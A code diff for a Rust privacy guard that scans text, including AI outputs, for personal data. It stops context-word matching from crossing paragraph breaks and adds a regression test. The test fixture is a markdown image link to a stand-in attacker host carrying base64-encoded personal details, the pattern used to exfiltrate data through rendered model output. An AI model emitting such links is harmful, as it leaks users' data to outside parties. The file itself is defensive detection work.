@@ -341,12 +341,17 @@ fn context_before(text: &str, start: usize, words: &[&str]) -> bool {
     context_before_n(text, start, 40, words)
 }
 
+/// Context never crosses a paragraph break: that is also the separator before decoded
+/// segments, and a word at the end of the text must not lend its context to a value
+/// decoded from elsewhere (nor may a stream's chunking change what is found).
 fn context_before_n(text: &str, start: usize, window: usize, words: &[&str]) -> bool {
     let mut from = start.saturating_sub(window);
     while !text.is_char_boundary(from) {
         from += 1;
     }
-    contains_any(&text[from..start], words)
+    let window = &text[from..start];
+    let window = window.rfind("\n\n").map_or(window, |i| &window[i + 2..]);
+    contains_any(window, words)
 }
 
 fn context_after(text: &str, end: usize, words: &[&str]) -> bool {
@@ -354,7 +359,9 @@ fn context_after(text: &str, end: usize, words: &[&str]) -> bool {
     while !text.is_char_boundary(to) {
         to -= 1;
     }
-    contains_any(&text[end..to], words)
+    let window = &text[end..to];
+    let window = window.find("\n\n").map_or(window, |i| &window[..i]);
+    contains_any(window, words)
 }
 
 fn contains_any(window: &str, words: &[&str]) -> bool {
@@ -908,6 +915,27 @@ mod tests {
             "data: Y29udGFjdCBhbmFAZXhhbXBsZS5lcw== end",
             "EMAIL_ADDRESS",
             "Y29udGFjdCBhbmFAZXhhbXBsZS5lcw==",
+        );
+    }
+}
+
+#[cfg(test)]
+mod context_boundary_tests {
+    use crate::{Context, Guard, Policy};
+
+    /// Regression: a context word at the end of the text ("Contact") made the phone
+    /// rule fire on digits decoded from a base64 blob earlier in the text, so a stream
+    /// chunk ending there found a phone that whole-text inspection did not.
+    #[test]
+    fn context_does_not_cross_into_decoded_segments() {
+        let g = Guard::new(Policy::default()).unwrap();
+        let t =
+            "![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and more. Contact";
+        let d = g.detect(t, Context::output()).unwrap();
+        assert!(
+            d.findings.iter().all(|f| f.entity != "PHONE_NUMBER"),
+            "{:?}",
+            d.findings
         );
     }
 }
